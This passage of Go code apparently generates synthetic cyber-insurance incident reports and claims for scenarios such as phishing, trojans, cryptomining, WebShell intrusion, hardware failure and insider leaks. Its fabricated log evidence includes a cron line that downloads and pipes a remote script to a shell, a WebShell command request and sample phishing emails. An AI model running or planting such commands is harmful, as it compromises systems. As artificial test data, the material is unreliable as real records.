	c.in.Title = "官网被植入博彩暗链"
	c.in.Details = IncidentDetails{
		AffectedSystems: "企业官网",
		Measures:        "清除页面中的暗链代码，核对网站文件完整性，修改 FTP 和后台口令",
		Cause:           "网站 FTP 账号口令泄露，攻击者在页面模板中插入隐藏的博彩链接。",
		Leads:           "属地网信部门通报及搜索引擎收录异常",
		NextSteps:       "关闭 FTP，改用运维堡垒机发布，部署网页防篡改。",
	}
	c.services = []string{"incident_response_hours"}
	c.evidence = []diEvidence{{kind: "screenshot", name: "暗链源码截图", note: "页面源码中的隐藏链接"}}
	if c.claim != nil {
		// Small losses, within the retention.
		ret := float64(max(c.terms.Retention, 2_000*100))
		c.add(claims.KindForensics, cover.CovEmergencyResponse, int64(ret*(0.3+0.2*c.l.r.Float64()))/10_000*10_000, "暗链排查服务费")
		c.add(claims.KindDataRestoration, cover.CovDataRestoration, int64(ret*(0.15+0.15*c.l.r.Float64()))/10_000*10_000, "网站模板恢复费用")
	}
}

func fillEquipment(c *diCase) {
	l := c.l
	hours := l.between(10, 40)
	sys := c.systems(1)
	c.in.Title = l.pick([]string{"核心存储阵列双控制器故障导致业务数据库损坏", "虚拟化集群共享存储故障导致业务系统中断"})
	c.in.Details = IncidentDetails{
		AffectedSystems: sys[0] + "及虚拟化平台上的业务虚拟机",
		AffectedData:    "部分数据库文件损坏，已从备份恢复，丢失约 6 小时数据",
		Measures:        "切换至备用存储，联系原厂更换控制器，从备份恢复数据库",
		Cause:           "存储阵列控制器固件缺陷导致双控制器先后宕机，RAID 组元数据损坏。",
		NextSteps:       "升级存储固件，建设异地容灾，缩短备份周期。",
	}
	if c.want != incident.GradeGeneral && c.ent.prof().CII {
		c.in.Facts = incident.Facts{CII: true, OutageMainMinutes: int64(l.between(130, 300))}
	}
	c.services = []string{"data_recovery", "incident_response_hours"}
	c.evidence = []diEvidence{{kind: "log", name: "存储控制器日志.txt", note: "原厂工具导出", byProvider: true, content: fmt.Appendf(nil,
		"%s CTRL-A FATAL: cache battery fault, controller halted\n%s CTRL-B ERROR: RAID group 2 metadata inconsistent\n",
		diBJ(c.occurred), diBJ(c.occurred.Add(7*time.Minute)))}}
	c.add(claims.KindHardware, cover.CovHardware, c.amt(40_000, 220_000), "存储控制器及硬盘更换")
	c.add(claims.KindDataRestoration, cover.CovDataRestoration, c.amt(30_000, 180_000), "数据库恢复服务费")
	c.addBI(hours, 0.3+0.5*l.r.Float64(), fmt.Sprintf("业务系统中断约 %d 小时", hours))
	if c.claim != nil {
		c.claim.decline = "not_covered"
		c.claim.declineNote = "经查，事故系存储设备固件缺陷导致的硬件故障，非网络安全事件所致，不属于本保险合同的保险责任。"
	}
}

func fillPower(c *diCase) {
	l := c.l
	hours := l.between(8, 30)
	c.in.Title = "市政停电叠加 UPS 蓄电池失效导致机房断电、业务中断"
	c.in.Details = IncidentDetails{
		AffectedSystems: "自建机房全部服务器及网络设备",
		AffectedData:    "断电导致两台数据库服务器文件系统损坏",
		Measures:        "启用应急发电车，逐台恢复服务器，修复损坏的文件系统并从备份恢复",
		Cause:           fmt.Sprintf("市政供电线路故障停电约 %d 小时，机房 UPS 蓄电池老化，仅支撑约 8 分钟。", l.between(3, 9)),
		NextSteps:       "更换 UPS 蓄电池并定期放电测试，核心业务迁移至云上。",
	}
	c.services = []string{"data_recovery", "incident_response_hours"}
	c.evidence = []diEvidence{{kind: "other", name: "供电公司停电通知及动环监控记录", note: "扫描件"}}
	c.add(claims.KindHardware, cover.CovHardware, c.amt(20_000, 150_000), "断电损坏的硬盘及电源模块更换")
	c.add(claims.KindDataRestoration, cover.CovDataRestoration, c.amt(20_000, 120_000), "文件系统修复及数据恢复费用")
	c.addBI(hours, 0.5+0.4*l.r.Float64(), fmt.Sprintf("全部业务中断约 %d 小时", hours))
	c.addExclusion("infrastructure_outage", true, "经供电公司停电通知及机房动环监控记录核实，事故起因为市政供电线路故障停电，非被保险人控制的计算机系统内的故障。")
	if c.claim != nil {
		c.claim.decline = "exclusion"
		c.claim.declineNote = "经核实，事故起因为市政供电线路故障停电，适用保险合同公共基础设施故障除外条款，保险人不负赔偿责任。"
	}
}

func fillBEC(c *diCase) {
	loss := c.amt(150_000, 900_000)
	c.in.Title = c.l.pick([]string{"财务人员遭冒充供应商邮件诈骗，向虚假账户汇款", "邮箱被入侵后收款账户遭篡改，货款被骗转出",
		"冒充公司负责人的即时通讯诈骗导致财务转账被骗"})
	c.in.Details = IncidentDetails{
		AffectedSystems: "财务部企业邮箱",
		AffectedData:    "与供应商的往来邮件及付款信息被攻击者掌握",
		Measures:        "立即联系开户行紧急止付，向公安机关报案，重置邮箱口令并启用多因素认证，向客户和供应商发送账户变更核实提醒",
		Cause:           "攻击者注册与供应商相似的仿冒域名，在邮件往来中伪称收款账户变更，财务人员未电话核实即付款。",
		Leads:           "收款账户信息及仿冒域名注册信息",
		NextSteps:       "建立收款账户变更电话回拨核实制度，启用邮件安全网关的仿冒域名检测。",
		CrimeSuspected:  true,
		PoliceRef:       c.policeRef(),
	}
	c.in.Facts = incident.Facts{DirectLossFen: loss}
	c.services = []string{"incident_response_hours"}
	c.evidence = []diEvidence{
		{kind: "other", name: "诈骗邮件原文.eml", note: "从邮件服务器导出", content: fmt.Appendf(nil,
			"From: 财务部 <finance@supp1ier-cn.example>\nDate: %s\nSubject: 关于变更收款账户的通知\n\n因我司基本户变更，请将本期货款汇入以下新账户……\n",
			diBJ(c.occurred.Add(-48*time.Hour)))},
		{kind: "other", name: "网银转账回单", note: "扫描件"},
		{kind: "police_receipt", name: "受案回执", note: "公安机关出具"},
	}
	c.add(claims.KindFundsTransfer, cover.CovFundsTransfer, loss, "被骗转出的货款")
	c.add(claims.KindForensics, cover.CovEmergencyResponse, c.amt(8_000, 30_000), "邮箱入侵排查服务费")
	c.addExclusion("intentional_acts", false, "财务人员系被欺诈，无故意或与他人串通的情形。")
}

func fillPhishing(c *diCase) {
	l := c.l
	c.in.Title = l.pick([]string{"员工邮箱账号遭钓鱼窃取并被用于对外发送钓鱼邮件", "仿冒“工资补贴”钓鱼邮件致多名员工账号泄露",
		"仿冒网盘分享链接的钓鱼邮件窃取管理人员邮箱口令"})
	c.in.Details = IncidentDetails{
		AffectedSystems: "企业邮箱系统",
		Measures:        "冻结并重置被盗账号，召回已发送的钓鱼邮件，向收件人发送提醒",
		Cause:           "员工在仿冒的邮箱登录页面输入账号口令。",
		NextSteps:       "邮箱启用多因素认证，开展钓鱼邮件演练。",
	}
	c.services = []string{"incident_response_hours"}
	c.evidence = []diEvidence{{kind: "other", name: "钓鱼邮件样本.eml", note: "员工转发", content: fmt.Appendf(nil,
		"From: 邮箱管理员 <admin@mail-upgrade.example>\nDate: %s\nSubject: 您的邮箱即将停用，请立即验证\n\n请点击以下链接完成账户验证……\n", diBJ(c.occurred))}}
	if l.r.IntN(2) == 0 {
		c.add(claims.KindForensics, cover.CovEmergencyResponse, c.amt(6_000, 30_000), "应急响应服务费")
	}
}

func fillTrojan(c *diCase) {
	l := c.l
	c.in.Title = l.pick([]string{"财务终端感染“银狐”远控木马", "办公终端经微信群文件感染远控木马",
		"销售部门电脑被植入远控木马，微信账号被用于群发诈骗信息", "财务人员电脑被远程控制，网银操作被劫持未遂"})
	c.in.Details = IncidentDetails{
		AffectedSystems: fmt.Sprintf("财务部办公终端 %d 台", l.between(1, 6)),
		AffectedData:    "终端上的财务报表及网银 U 盾存在被操控风险，未发现资金损失",
		Measures:        "隔离受感染终端并重装，重置相关账号口令，暂停网银操作，在终端安全软件中下发查杀策略并排查同网段终端",
		Cause:           "员工在微信工作群中下载伪装成“税务稽查通知”的压缩包并运行，终端被植入远控木马。",
		NextSteps:       "限制办公终端运行未签名程序，加强社交软件文件传输的安全意识培训。",
	}
	c.services = []string{"incident_response_hours"}
	c.evidence = []diEvidence{
		{kind: "malware_sample", name: "税务稽查通知.zip（样本）", note: "从受感染终端提取", byProvider: true},
		{kind: "log", name: "终端安全告警日志.txt", note: "终端安全管理平台导出", content: fmt.Appendf(nil,
			"%s ALERT Trojan.SilverFox host=FIN-PC-0%d action=quarantine-failed\n%s ALERT C2 connection host=FIN-PC-0%d dst=%s:8888\n",
			diBJ(c.occurred), l.between(1, 9), diBJ(c.occurred.Add(12*time.Minute)), l.between(1, 9), c.ip())},
	}
	c.add(claims.KindForensics, cover.CovEmergencyResponse, c.amt(10_000, 60_000), "应急响应及木马分析服务费")
	c.add(claims.KindDataRestoration, cover.CovDataRestoration, c.amt(5_000, 40_000), "终端重装及数据恢复费用")
}

func fillMiner(c *diCase) {
	l := c.l
	c.in.Title = l.pick([]string{"业务服务器被植入挖矿程序", "云主机遭 Redis 未授权访问入侵并运行挖矿程序"})
	c.in.Details = IncidentDetails{
		AffectedSystems: fmt.Sprintf("Linux 业务服务器 %d 台", l.between(2, 12)),
		Measures:        "结束挖矿进程，清除计划任务和 SSH 公钥后门，修改 root 口令并关闭口令登录",
		Cause:           "Redis 未授权访问被利用写入 SSH 公钥，攻击者植入 XMRig 挖矿程序。",
		NextSteps:       "Redis 绑定内网并启用认证，部署主机入侵检测。",
	}
	c.services = []string{"incident_response_hours"}
	c.evidence = []diEvidence{{kind: "log", name: "异常进程及计划任务清单.txt", note: "现场排查导出", byProvider: true, content: fmt.Appendf(nil,
		"%s PID 2%04d /tmp/.x/xmrig --url pool.example:3333 CPU 780%%\n*/5 * * * * curl -fsSL http://%s/init.sh | sh\n", diBJ(c.discovered),
		l.between(1000, 9999), c.ip())}}
	if l.r.IntN(3) == 0 {
		c.add(claims.KindForensics, cover.CovEmergencyResponse, c.amt(6_000, 30_000), "应急响应服务费")
	}
}

func fillExploit(c *diCase) {
	l := c.l
	sys := l.pick([]string{"OA 协同办公系统", "ERP 系统", "供应商门户"})
	c.in.Title = sys + "漏洞被利用，服务器被植入 WebShell"
	c.in.Details = IncidentDetails{
		AffectedSystems: sys + "应用服务器及数据库服务器",
		AffectedData:    fmt.Sprintf("员工通讯录等约 %d 条个人信息可能被窃取", l.between(200, 3000)),
		Measures:        "下线涉事系统，清除 WebShell，安装厂商补丁，排查同网段主机",
		Cause:           "系统存在公开的文件上传漏洞，攻击者上传 WebShell 取得服务器权限。",
		NextSteps:       "建立漏洞台账和补丁管理流程，互联网暴露系统前置 Web 应用防火墙。",
		Preservation:    "对应用服务器制作镜像，保存 Web 访问日志。",
	}
	c.in.Facts = incident.Facts{PILeakedPeople: int64(l.between(200, 3000))}
	c.services = []string{"incident_response_hours", "forensics"}
	c.evidence = []diEvidence{
		{kind: "log", name: "Web 访问日志.txt", note: "导出攻击时段日志", content: fmt.Appendf(nil,
			"%s POST /seeyon/fileUpload.do 200 src=%s\n%s GET /upload/%d.jsp?cmd=whoami 200 src=%s\n", diBJ(c.occurred), c.ip(),
			diBJ(c.occurred.Add(2*time.Minute)), l.between(1000, 9999), c.ip())},
		{kind: "malware_sample", name: "WebShell 文件", note: "从 Web 目录提取", byProvider: true},
		{kind: "disk_image", name: "应用服务器镜像（E01）", note: "现场采集", byProvider: true},
		c.forensicReport("攻击者利用文件上传漏洞上传 WebShell，执行命令收集系统信息并导出部分数据；未发现横向移动至核心生产网。"),
	}
	c.add(claims.KindForensics, cover.CovEmergencyResponse, c.amt(20_000, 120_000), "应急响应及取证服务费")
	c.add(claims.KindDataRestoration, cover.CovDataRestoration, c.amt(15_000, 100_000), "系统重建费用")
	if l.r.IntN(2) == 0 {
		c.add(claims.KindLegal, cover.CovLegal, c.amt(10_000, 60_000), "法律咨询费用")
	}
}

func fillOperatorError(c *diCase) {
	l := c.l
	hours := l.between(8, 36)
	c.in.Title = "运维人员误执行清理脚本导致生产数据库数据丢失"
	c.in.Details = IncidentDetails{
		AffectedSystems: c.systems(1)[0] + "生产数据库",
		AffectedData:    "订单及库存数据被删除，已从备份和归档日志恢复",
		Measures:        "停止业务写入，从全量备份和归档日志恢复数据库，核对恢复数据",
		Cause:           "运维人员在夜间维护窗口误将测试环境清理脚本在生产库执行。",
		NextSteps:       "生产变更实行双人复核，生产库账号与测试环境隔离，启用数据库审计。",
	}
	c.services = []string{"data_recovery", "incident_response_hours"}
	c.evidence = []diEvidence{{kind: "log", name: "数据库审计日志.txt", note: "数据库审计系统导出", content: fmt.Appendf(nil,
		"%s user=ops_%02d host=10.20.3.%d stmt=\"DELETE FROM orders WHERE created_at < NOW()\" rows=%d\n", diBJ(c.occurred),
		l.between(1, 20), l.between(10, 99), l.between(100000, 900000))}}
	c.add(claims.KindDataRestoration, cover.CovDataRestoration, c.amt(30_000, 250_000), "数据库恢复服务费")
	c.addBI(hours, 0.3+0.5*l.r.Float64(), fmt.Sprintf("订单系统停运约 %d 小时", hours))
	c.addExclusion("intentional_acts", false, "系运维人员操作失误，非故意行为。")
}

func fillCredential(c *diCase) {
	l := c.l
	n := int64(l.between(2, 40)) * 1000
	c.in.Title = l.pick([]string{"会员系统遭撞库攻击，部分会员积分被盗用", "小程序账户遭撞库登录，用户优惠券被盗刷"})
	c.in.Details = IncidentDetails{
		AffectedSystems: "会员系统及小程序",
		AffectedData:    fmt.Sprintf("约 %d 个会员账户被异常登录，姓名和手机号可被查看", n),
		Measures:        "冻结异常账户，强制重置口令，启用登录风控和短信验证，为受影响会员补发积分",
		Cause:           "攻击者使用其他平台泄露的账号口令批量尝试登录。",
		NextSteps:       "上线设备指纹和登录频率限制，会员账户默认启用短信验证。",
	}
	c.in.Facts = incident.Facts{PILeakedPeople: n}
	c.services = []string{"incident_response_hours"}
	c.evidence = []diEvidence{{kind: "log", name: "登录日志.txt", note: "导出攻击时段日志", content: fmt.Appendf(nil,
		"%s login fail=%d success=%d src_ips=%d ua=okhttp/3.12\n", diBJ(c.occurred), l.between(200000, 900000), n, l.between(300, 4000))}}
	c.add(claims.KindForensics, cover.CovEmergencyResponse, c.amt(10_000, 50_000), "应急响应服务费")
	c.add(claims.KindPR, cover.CovPublicRelations, c.amt(10_000, 40_000), "会员通知及客服加班费用")
	if l.r.IntN(2) == 0 {
		c.addLiability(c.amt(10_000, 80_000), c.amt(10_000, 40_000), "会员积分被盗用的赔偿请求")
	}
}

func fillInsider(c *diCase) {
	l := c.l
	n := int64(l.between(5, 120)) * 1000
	c.in.Title = "离职销售人员违规导出客户信息并出售"
	c.in.Details = IncidentDetails{
		AffectedSystems: "客户关系管理系统",
		AffectedData:    fmt.Sprintf("客户名称、联系人、电话及采购记录约 %d 条", n),
		Measures:        "注销涉事账号，收紧数据导出权限，向公安机关报案并配合调查",
		Cause:           "销售人员离职前利用导出权限批量下载客户信息并出售给竞争对手。",
		NextSteps:       "数据导出审批和水印，离职账号即时回收，部署数据防泄漏（DLP）。",
		CrimeSuspected:  true,
		PoliceRef:       c.policeRef(),
	}
	c.in.Facts = incident.Facts{PILeakedPeople: n}
	c.services = []string{"incident_response_hours", "forensics"}
	c.evidence = []diEvidence{
		{kind: "log", name: "CRM 导出审计日志.txt", note: "系统导出", content: fmt.Appendf(nil,
			"%s user=sales_%03d action=export table=customers rows=%d\n", diBJ(c.occurred), l.between(1, 300), n)},
		c.forensicReport("涉事账号在离职前两周内多次批量导出客户数据，导出文件经个人网盘外传。"),
	}
	c.add(claims.KindLegal, cover.CovLegal, c.amt(20_000, 120_000), "律师费用")
	c.add(claims.KindForensics, cover.CovEmergencyResponse, c.amt(15_000, 60_000), "调查取证服务费")
	if l.r.IntN(2) == 0 {
		c.addLiability(c.amt(30_000, 300_000), c.amt(20_000, 120_000), "客户因信息泄露提出的赔偿请求")
	}
	c.addExclusion("intentional_acts", false, "系雇员个人违法行为，被保险人管理层未授意、纵容或知情。")
}

func fillAccess(c *diCase) {
	l := c.l
	c.in.Title = "VPN 账号在境外 IP 异常登录"
	c.in.Details = IncidentDetails{
		AffectedSystems: "SSL VPN 及内网办公系统",
		Measures:        "禁用涉事账号，强制全员重置 VPN 口令，封禁异常来源 IP",
		Cause:           "员工 VPN 口令在其他网站重复使用后泄露。",
		NextSteps:       "VPN 启用多因素认证并限制登录地域。",
	}
	c.services = []string{"incident_response_hours"}
	c.evidence = []diEvidence{{kind: "log", name: "VPN 登录日志.txt", note: "VPN 设备导出", content: fmt.Appendf(nil,
		"%s user=%s login success src=%s geo=境外\n", diBJ(c.occurred), l.pick([]string{"zhangwei", "liuyang", "chenjie", "wanglei"}), c.ip())}}
	if l.r.IntN(3) == 0 {
		c.add(claims.KindForensics, cover.CovEmergencyResponse, c.amt(5_000, 20_000), "应急排查服务费")
	}
}

func fillVuln(c *diCase) {
	c.in.Title = "收到漏洞通报：互联网暴露系统存在高危漏洞"
	c.in.Details = IncidentDetails{
		AffectedSystems: c.systems(1)[0],
		Measures:        "临时下线暴露端口，安装厂商补丁并复测",
		Leads:           "属地网信部门漏洞通报",
		Cause:           "系统版本过旧，存在已公开的远程代码执行漏洞，未发现被利用痕迹。",
		NextSteps:       "建立资产台账和补丁管理流程。",
	}
	c.services = []string{"incident_response_hours"}
}
